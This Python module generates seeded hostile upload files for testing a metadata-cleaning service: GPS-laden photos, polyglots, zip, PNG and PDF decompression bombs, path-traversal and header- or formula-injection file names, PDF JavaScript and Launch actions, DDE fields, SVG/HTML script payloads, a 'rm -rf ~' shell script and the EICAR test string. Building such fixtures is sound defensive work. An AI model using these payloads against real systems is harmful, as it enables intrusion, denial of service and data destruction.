"""Files that a clever fifteen-year-old, or somebody worse, would send: as many as one likes, the same from the same seed.

Nothing here is a file that anybody made: each is put together from its seed. Every one that can hold it tells PLACE
somewhere beside the work, and SCRIPT where a browser or a program might run it.
"""
# ruff: noqa: E501 bytes that have no better shape

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image, PngImagePlugin

from cairn.evidence.services.cleaning.ogg import checksum

PLACE = b"@45.5231,-93.2207 home of Ada"
SCRIPT = b"<script>fetch('/home')</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"
GPS, MAKE, ABOUT = 0x8825, 0x010F, 0x010E

Random = random.Random
Maker = Callable[[Random], bytes]


class Hostile(NamedTuple):
    """One file: which kind of trick, under which name it is sent, and what is in it."""

    kind: str
    name: str
    data: bytes


def hostile(seed: int) -> Hostile:
    """The file of this seed; seeds go round all tricks."""
    kind = list(TRICKS)[seed % len(TRICKS)]
    chance = Random(seed)
    return Hostile(kind, _name(chance), TRICKS[kind](chance))


def _name(chance: Random) -> str:
    ending = chance.choice(["jpg", "png", "pdf", "docx", "mp4", "txt", "html", "svg", "exe", ""])
    return chance.choice(
        [
            f"work.{ending}", f"../../../etc/cron.d/x.{ending}", f"..\\..\\boot.{ending}",
            f"con.{ending}", "LPT1", "nul.tar.gz", f"holiday\u202egpj.{ending}", f"a\0b.{ending}",
            'x"; filename="evil.html', "a\r\nSet-Cookie: s=1", "." * 300, "", "   ", f"-rf.{ending}",
            "x" * 5000, "a\u0301" + "\u0302" * 400, f"report.pdf.{ending}", "file.txt:evil.exe",
            "%2e%2e%2fpasswd", "<img src=x onerror=alert(1)>.jpg", "\u200b.\ufeff", "=cmd|calc.csv",
        ]
    )  # fmt: skip


# --- pictures


def picture(form: str = "JPEG", chance: Random | None = None, **saved: object) -> bytes:
    size = (chance.randint(1, 60), chance.randint(1, 60)) if chance else (8, 6)
    drawn = Image.new("RGB", size, "teal")
    out = io.BytesIO()
    drawn.save(out, form, **saved)  # type: ignore[arg-type]
    return out.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[MAKE] = PLACE.decode()
    exif[ABOUT] = SCRIPT.decode()
    exif.get_ifd(GPS)[2] = (45.0, 30.0, 0.0)
    exif.get_ifd(GPS)[28] = PLACE
    return exif


def photo(chance: Random) -> bytes:
    form = chance.choice(["JPEG", "PNG", "WEBP", "TIFF"])
    return picture(form, chance, exif=_exif())


def photo_with_xmp(chance: Random) -> bytes:
    form = chance.choice(["JPEG", "PNG", "WEBP"])
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + PLACE + SCRIPT + b"</x:xmpmeta>"
    return picture(form, chance, xmp=xmp)


def jpeg_with_comment(chance: Random) -> bytes:
    return picture("JPEG", chance, comment=PLACE + SCRIPT)


def png_with_texts(chance: Random) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", PLACE.decode(), zip=chance.random() < 0.5)
    info.add_itxt("XML:com.adobe.xmp", (PLACE + SCRIPT).decode(), zip=False)
    return picture("PNG", chance, pnginfo=info)


def picture_with_profile(chance: Random) -> bytes:
    form = chance.choice(["JPEG", "PNG", "WEBP", "TIFF"])
    return picture(form, chance, icc_profile=b"\0" * 128 + PLACE + SCRIPT)


def picture_and_tail(chance: Random) -> bytes:
    form = chance.choice(["JPEG", "PNG", "GIF", "WEBP", "BMP"])
    tail = chance.choice([SCRIPT, zipped(("index.html", SCRIPT)), mp4(chance), b"MZ\x90\0", EICAR])
    return picture(form, chance) + PLACE + tail


def gif_and_script(chance: Random) -> bytes:
    return b"GIF89a/*" + picture("GIF", chance)[8:] + b"*/=1;alert(1)//" + PLACE


def broken_picture(chance: Random) -> bytes:
    data = bytearray(picture(chance.choice(["JPEG", "PNG", "GIF", "WEBP", "TIFF", "BMP"]), chance))
    for _ in range(chance.randint(1, 30)):
        data[chance.randrange(4, len(data))] = chance.randrange(256)
    return bytes(data[: chance.randint(len(data) // 3, len(data))]) + PLACE


def pixel_bomb(chance: Random) -> bytes:
    side = chance.randint(10_000, 60_000)
    rows = zlib.compress(bytes(1 << 16))
    head = struct.pack(">IIBBBBB", side, side, chance.choice([1, 8]), 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def text_bomb(chance: Random) -> bytes:
    inside = b"k\0\0" + zlib.compress(bytes(40 << 20), 9)
    whole = picture("PNG", chance)
    return whole[:33] + _chunk(chance.choice([b"zTXt", b"iCCP"]), inside) + whole[33:]


def frame_bomb(chance: Random) -> bytes:
    one = picture("GIF", chance)
    at = one.index(b",", 13 + 3 * 2)
    return one[:at] + one[at:-1] * chance.randint(1_500, 3_000) + b";"


def heic(chance: Random) -> bytes:
    brand = chance.choice([b"heic", b"mif1", b"heix", b"hevc"])
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1heic" + PLACE


# --- films and sounds


def box(kind: bytes, *inside: bytes) -> bytes:
    whole = b"".join(inside)
    return struct.pack(">I", 8 + len(whole)) + kind + whole


def track(handler: bytes, chunks: list[int], sizes: list[int]) -> bytes:
    """A track whose chunks of one sample each begin at these places of the file."""
    table = box(
        b"stbl",
        box(b"stsd", bytes(4), struct.pack(">I", 0)),
        box(b"stts", bytes(8)),
        box(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, 1, 1)),
        box(
            b"stsz",
            bytes(4),
            struct.pack(">II", 0, len(sizes)),
            *(struct.pack(">I", n) for n in sizes),
        ),
        box(
            b"stco",
            bytes(4),
            struct.pack(">I", len(chunks)),
            *(struct.pack(">I", n) for n in chunks),
        ),
    )
    own = box(b"dinf", box(b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", b"\0\0\0\x01")))
    return box(
        b"trak",
        box(b"tkhd", bytes(4), b"\xe0\0\0\0" * 2, bytes(72)),
        box(
            b"mdia",
            box(b"mdhd", bytes(24)),
            box(b"hdlr", bytes(8), handler, bytes(12), PLACE),
            box(b"minf", own, table),
        ),
        box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(PLACE), 0), PLACE)),
    )


def mp4(
    chance: Random | None = None,
    *,
    brand: bytes = b"isom",
    handlers: tuple[bytes, ...] = (b"vide", b"soun", b"meta"),
) -> bytes:
    """A film whose picture and sound are plain bytes, with its place in every corner of it."""
    first = box(b"ftyp", brand, bytes(4), b"mp42")
    samples = {b"vide": b"PICTURE!" * 4, b"soun": b"SOUND..." * 2}
    parts, places = [PLACE], []
    for handler in handlers:
        sample = samples.get(handler, PLACE)
        places.append((len(first) + 8 + sum(map(len, parts)), len(sample)))
        parts += [sample, b"between " + PLACE]
    data = box(b"mdat", *parts)
    tracks = [track(h, [at], [size]) for h, (at, size) in zip(handlers, places, strict=True)]
    keys = box(b"meta", box(b"keys", b"com.apple.quicktime.location.ISO6709"), box(b"ilst", PLACE))
    extra = box(b"udta", box(b"loci", PLACE), box(b"\xa9xyz", PLACE), keys)
    moov = box(b"moov", box(b"mvhd", bytes(4), b"\xe0\0\0\0" * 2, bytes(88)), *tracks, extra, keys)
    return first + data + moov + box(b"uuid", bytes(16), PLACE) + box(b"free", PLACE)


def film(chance: Random) -> bytes:
    brand = chance.choice([b"isom", b"qt  ", b"mp42", b"3gp5", b"M4A "])
    handlers = chance.choice(
        [(b"vide", b"soun", b"meta"), (b"soun",), (b"vide", b"text"), (b"vide", b"camm")]
    )
    return mp4(chance, brand=brand, handlers=handlers)


def broken_film(chance: Random) -> bytes:
    data = bytearray(mp4(chance))
    for _ in range(chance.randint(1, 8)):
        at = chance.randrange(len(data) - 4)
        data[at : at + 4] = struct.pack(">I", chance.choice([0, 1, 7, 0xFFFFFFFF, len(data), 64]))
    return bytes(data)


def film_from_elsewhere(chance: Random) -> bytes:
    return mp4(chance).replace(
        box(b"url ", b"\0\0\0\x01"), box(b"url ", b"\0\0\0\0"), chance.randint(1, 2)
    )


def deep_boxes(chance: Random) -> bytes:
    inner = box(b"trak", PLACE)
    for _ in range(chance.randint(200, 3_000)):
        inner = box(chance.choice([b"moov", b"trak", b"mdia"]), inner)
    return box(b"ftyp", b"isom", bytes(4)) + box(b"moov", inner)


def mpeg_sound(frames: int = 6) -> bytes:
    return (b"\xff\xfb\x90\x00" + bytes(413)) * frames


def mp3(chance: Random) -> bytes:
    title = b"TXXX" + struct.pack(">I", len(PLACE)) + b"\0\0" + PLACE + SCRIPT
    head = b"ID3\x04\0\0" + bytes([0, 0, len(title) >> 7, len(title) & 0x7F]) + title
    return head + mpeg_sound(chance.randint(4, 9)) + b"APETAGEX" + PLACE + b"TAG" + PLACE.ljust(125)


def wav(chance: Random) -> bytes:
    def part(kind: bytes, data: bytes) -> bytes:
        return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    inside = (
        b"WAVE"
        + part(b"LIST", b"INFO" + PLACE)
        + part(b"fmt ", bytes(16))
        + part(b"iXML", PLACE + SCRIPT)
    )
    inside += part(b"data", bytes(chance.randint(1, 400))) + part(b"bext", PLACE)
    return b"RIFF" + struct.pack("<I", len(inside)) + inside + PLACE


def ogg_page(packets: list[bytes], number: int, serial: int = 7) -> bytes:
    lacing = b"".join(b"\xff" * (len(p) // 255) + bytes([len(p) % 255]) for p in packets)
    page = (
        b"OggS\0" + bytes([2 if number == 0 else 0]) + bytes(8) + struct.pack("<II", serial, number)
    )
    page += bytes(4) + bytes([len(lacing)]) + lacing + b"".join(packets)
    return page[:22] + struct.pack("<I", checksum(page)) + page[26:]


def ogg(chance: Random) -> bytes:
    said = [b"LOCATION=" + PLACE, b"COMMENT=" + SCRIPT]
    tags = b"OpusTags" + struct.pack("<I", 4) + b"libx" + struct.pack("<I", len(said))
    tags += b"".join(struct.pack("<I", len(each)) + each for each in said) + PLACE
    serial = chance.choice([7, 8])
    pages = [[b"OpusHead" + bytes(11)], [tags], [bytes(60)]]
    return b"".join(ogg_page(p, i, 7 if i < 2 else serial) for i, p in enumerate(pages))


def _ebml(kind: str, *inside: bytes, unknown: bool = False) -> bytes:
    whole = b"".join(inside)
    size = b"\x01" + b"\xff" * 7 if unknown else b"\x01" + len(whole).to_bytes(7, "big")
    return bytes.fromhex(kind) + size + whole


def webm(chance: Random) -> bytes:
    kinds = chance.choice([(1, 2), (2,), (1, 17)])
    entries = [_ebml("AE", _ebml("D7", bytes([i])), _ebml("83", bytes([kind])), _ebml("536E", PLACE))
               for i, kind in enumerate(kinds, 1)]  # fmt: skip
    info = _ebml("1549A966", _ebml("7BA9", PLACE), _ebml("4461", PLACE), _ebml("2AD7B1", b"\x0f"))
    tags = _ebml("1254C367", _ebml("7373", PLACE + SCRIPT))
    files = _ebml("1941A469", _ebml("61A7", PLACE + SCRIPT))
    live = chance.random() < 0.5
    cluster = _ebml("1F43B675", _ebml("E7", b"\0"), _ebml("A3", b"\x81\0\0\0pixels"), unknown=live)
    segment = _ebml(
        "18538067", info, _ebml("1654AE6B", *entries), tags, cluster, files, unknown=live
    )
    return _ebml("1A45DFA3", _ebml("4282", b"webm")) + segment + (b"" if live else PLACE + SCRIPT)


# --- documents


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in files:
            pack.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


_WORD: tuple[tuple[str, bytes], ...] = (
    ("[Content_Types].xml", b"<Types/>"),
    ("word/document.xml", b"<w:document><w:t>My volcano</w:t></w:document>"),
    ("docProps/core.xml", b"<dc:creator>" + PLACE + b"</dc:creator>"),
    ("docProps/app.xml", b"<Company>" + PLACE + b"</Company>"),
)


def document(chance: Random) -> bytes:
    inside = (("word/media/image1.jpeg", photo(chance)), ("docProps/thumbnail.jpeg", photo(chance)))
    return zipped(*_WORD, *inside)


def open_document(chance: Random) -> bytes:
    kind = chance.choice(["text", "presentation", "spreadsheet"])
    return zipped(
        ("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
        ("meta.xml", b"<meta:initial-creator>" + PLACE + b"</meta:initial-creator>"),
        ("content.xml", b"<office:text>words</office:text>"),
        ("Pictures/1.png", png_with_texts(chance)),
    )


def document_that_acts(chance: Random) -> bytes:
    return zipped(
        *_WORD,
        chance.choice(
            [
                ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
                ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
                ("word/embeddings/game.docx", zipped(*_WORD)),
                ("word/activeX/activeX1.xml", b"<a/>"),
                ("word/_rels/settings.xml.rels",
                 b'<Relationship Type="x/attachedTemplate" Target="https://evil" TargetMode="External"/>'),
                ("word/footer.xml", b"<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText>"),
                ("word/evil.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
                ("word/media/image2.png", b"MZ\x90\0\x03"),
                ("word/media/page.bin", b"MZ\x90\0\x03"),
                ("../../startup/x.xml", b"<a/>"),
                ("word/media/film.mp4", broken_film(chance)),
            ]
        ),
    )  # fmt: skip


def package(chance: Random) -> bytes:
    return zipped(
        *chance.choice(
            [
                [("index.html", SCRIPT)],
                [("../../etc/cron.d/x", b"* * * * * root true")],
                [("a.zip", zipped(("b.zip", zipped(("c.exe", b"MZ")))))],
                [
                    ("META-INF/MANIFEST.MF", b"Main-Class: Evil"),
                    ("Evil.class", b"\xca\xfe\xba\xbe"),
                ],
                [("Index/Document.iwa", b"pages")],
            ]
        )
    )


def zip_bomb(chance: Random) -> bytes:
    big = ("word/media/image9.bin", bytes(chance.randint(30, 60) << 20))
    many = [(f"word/x{i}.xml", b"") for i in range(6_000)]
    return zipped(*_WORD, *chance.choice([[big], [big], many]))


def lying_zip(chance: Random) -> bytes:
    """Its directory says that a part is small, and it is not."""
    data = bytearray(zipped(*_WORD, ("word/media/x.bin", bytes(24 << 20))))
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = struct.pack("<I", chance.randint(1, 1000))
    return bytes(data)


def zip_behind_something(chance: Random) -> bytes:
    return chance.choice([picture("JPEG"), SCRIPT, PDF, b"MZ\x90\0\0\0"]) + zipped(
        *_WORD, ("index.html", SCRIPT)
    )


def scratch(chance: Random) -> bytes:
    return zipped(
        ("project.json", b'{"targets": []}'), ("a.png", photo_with_xmp(chance)), ("b.svg", SCRIPT)
    )


def locked_zip(chance: Random) -> bytes:
    data = bytearray(zipped(*_WORD))
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flag] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"


def _stream(words: bytes, data: bytes) -> bytes:
    return (
        b"9 0 obj<<" + words + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream endobj\n"
    )


def pdf(chance: Random) -> bytes:
    xmp = b"<x:xmpmeta>" + PLACE + b"</x:xmpmeta>"
    packed = chance.random() < 0.5
    words = b"/Type/Metadata/Subtype/XML" + (b"/Filter/FlateDecode" if packed else b"")
    info = b"3 0 obj<</Author(" + PLACE + b")/Title <" + PLACE.hex().encode() + b">>>endobj\n"
    image = _stream(b"/Subtype/Image/Filter/DCTDecode", picture("JPEG", exif=_exif()))
    return (
        PDF
        + info
        + _stream(words, zlib.compress(xmp) if packed else xmp)
        + image
        + b"trailer<<>>%%EOF"
    )


def pdf_that_acts(chance: Random) -> bytes:
    act = chance.choice(
        [b"/S/JavaScript/JS(app.alert(1))", b"/S/J#61vaScript/J#53(1)", b"/S/Launch/F(cmd.exe)", b"/EmbeddedFiles 4 0 R",
         b"/XFA 4 0 R", b"/S/SubmitForm/F(https://evil)", b"/Subtype/RichMedia", b"/S/GoToR/F(x)"]
    )  # fmt: skip
    thing = b"7 0 obj<<" + act + b">>endobj\n"
    if chance.random() < 0.4:
        thing = _stream(
            b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"7 0 <<" + act + b">>")
        )
    return PDF + thing + b"%%EOF"


def pdf_bomb(chance: Random) -> bytes:
    return PDF + _stream(
        b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(bytes(chance.randint(70, 90) << 20), 9)
    )


def endless_words(chance: Random) -> bytes:
    """Beginnings without an end, for whoever reads them by patterns that go back and try again."""
    begun = chance.choice(
        [b"<x:xmpmeta ", b"<rdf:RDF ", b"/Author (", b"/Title <", b"\xff\xe1\xff\xffExif\0\0"]
    )
    rels = b'<Relationship TargetMode="' * 200_000
    fields = b"<w:instrText " * 200_000
    return chance.choice(
        [PDF + begun * 200_000, zipped(*_WORD, ("word/_rels/x.rels", rels)), zipped(*_WORD, ("word/x.xml", fields)),
         b"\xff\xfb\x90\x00" + b"\xff" * 400_000, b"ID3" + b"\xff" * 400_000]
    )  # fmt: skip


def locked_pdf(chance: Random) -> bytes:
    return PDF + b"trailer<</Encrypt 5 0 R>>" + bytes(chance.randint(0, 9)) + b"%%EOF"


def pdf_and_page(chance: Random) -> bytes:
    return chance.choice([SCRIPT, b"<html>", b"\n" * 900]) + PDF + b"%%EOF\xff" + SCRIPT


# --- what acts, and what pretends

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def svg(chance: Random) -> bytes:
    wrapped = [SVG, b"<!-- " + b"x" * 3000 + b" -->" + SVG, b"\xef\xbb\xbf" + SVG, SVG.upper(),
               SVG.decode().encode("utf-16"), b'<?xml version="1.0"?>' + SVG,
               SVG.replace(b"<script", b'<image href="https://evil"/><script')]  # fmt: skip
    return chance.choice(wrapped)


def page(chance: Random) -> bytes:
    return chance.choice(
        [b"<!doctype html>" + SCRIPT, b" \n\t" * 200 + b"<HTML>" + SCRIPT, b"<body onload=alert(1)>",
         ("<html>" + SCRIPT.decode()).encode("utf-16"), b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
         b'<?xml version="1.0"?><?xml-stylesheet href="data:,x"?><a/>', b"#!/bin/sh\nrm -rf ~\n",
         b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT, b"=HYPERLINK(\"https://evil\")",
         "if (a\u202e) { \u2066".encode(), b"[InternetShortcut]\nURL=javascript:alert(1)"]
    )  # fmt: skip


def program(chance: Random) -> bytes:
    starts = [b"MZ\x90\0", b"\x7fELF\x02", b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe", b"\0asm\1\0\0\0", b"dex\n035\0",
              b"L\0\0\0\x01\x14\x02\0", b"FWS\x09\0", b"\xfe\xed\xfa\xce"]  # fmt: skip
    return chance.choice(starts) + chance.randbytes(chance.randint(10, 3000))


def archive(chance: Random) -> bytes:
    starts = [b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\0", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0", b"MSCF\0", b"PK\x05\x06",
              b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1{\\object ", b"fLaC\0", b"FLV\x01", b"RIFF\0\0\0\0AVI "]  # fmt: skip
    return chance.choice(starts) + chance.randbytes(200)


def noise(chance: Random) -> bytes:
    start = chance.choice(
        [
            b"",
            b"\xff\xfb\x90",
            b"BM",
            b"RIFF",
            b"\0\0\0\x18ftyp",
            b"ID3",
            b"\x1aE\xdf\xa3",
            b"%PDF-",
            b"PK\x03\x04",
        ]
    )
    return start + chance.randbytes(chance.randint(0, 5000))


def virus_test(chance: Random) -> bytes:
    return EICAR + b" " * chance.randint(0, 20)


def empty(_chance: Random) -> bytes:
    return b""


TRICKS: dict[str, Maker] = {
    make.__name__.replace("_", " "): make
    for make in (
        photo, photo_with_xmp, jpeg_with_comment, png_with_texts, picture_with_profile, picture_and_tail, gif_and_script,
        broken_picture, pixel_bomb, text_bomb, frame_bomb, heic, film, broken_film, film_from_elsewhere, deep_boxes, mp3,
        wav, ogg, webm, document, open_document, document_that_acts, package, zip_bomb, lying_zip, zip_behind_something,
        scratch, locked_zip, pdf, pdf_that_acts, pdf_bomb, endless_words, locked_pdf, pdf_and_page, svg, page, program, archive, noise,
        virus_test, empty,
    )
}  # fmt: skip
